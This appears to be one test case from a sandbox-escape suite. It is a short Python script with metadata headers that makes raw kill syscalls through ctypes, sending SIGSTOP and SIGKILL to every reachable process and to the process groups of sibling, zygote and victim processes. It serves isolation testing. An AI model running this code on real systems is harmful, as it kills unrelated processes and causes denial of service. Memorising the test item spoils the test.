# ax-id: AX-own-104-sibling-signal-all
# ax-layer: L2 (AST layer assumed broken: native Python in the worker)
# ax-class: siblings
# ax-source: a signal to everything and to every group that there may be
# ax-escaped: victim-dead, neighbour dead
# ax-params: CANARY SECRET_FILE OUT_FILE TCP_PORT UDP_PORT UNIX_PATH ABS_NAME VICTIM_PID HOST_PID WORK SHM_NAME MAX_PROCS MEM_MIB DISK_MIB SIBLING_PID SIBLING_WORK ZYGOTE_PID
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(*arguments):
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(*(ctypes.c_long(each) if isinstance(each, int) else each for each in arguments))
for number in (19, 9):
    for target in (-1, -SIBLING_PID, -ZYGOTE_PID, -VICTIM_PID):
        call(62, target, number)
